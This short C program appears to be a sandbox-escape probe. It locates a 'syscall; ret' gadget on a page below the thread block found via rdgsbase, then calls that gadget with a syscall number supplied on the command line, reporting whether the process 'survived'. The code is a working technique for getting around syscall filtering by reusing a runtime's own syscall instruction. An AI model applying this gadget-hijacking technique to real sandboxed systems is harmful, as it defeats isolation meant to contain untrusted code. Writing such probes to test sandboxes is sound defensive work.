/* Takes over the kernel's gadget: jumps straight to its syscall instruction with a number of our own. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(int argc, char **argv) {
    long number = atol(argv[1]), result;
    unsigned long block;
    __asm__ volatile("rdgsbase %0" : "=r"(block)); /* the thread block, 1 GiB above the region's base or more */
    unsigned char *image = (unsigned char *)((block - (1ul << 30)) & ~((1ul << 30) - 1));
    unsigned char *found = NULL;
    for (unsigned char *p = image; p < image + (4ul << 20) && !found; p += 4096) {
        /* The gadget's page begins with `syscall; ret`. */
        if (p[0] == 0x0f && p[1] == 0x05 && p[2] == 0xc3) found = p;
    }
    if (!found) { puts("no gadget"); return 2; }
    puts("found");
    fflush(stdout);
    __asm__ volatile("call *%[gadget]"
                     : "=a"(result)
                     : "a"(number), [gadget] "r"(found), "D"(0), "S"(0), "d"(0)
                     : "rcx", "r11", "memory");
    printf("survived %ld\n", result);
    return 0;
}
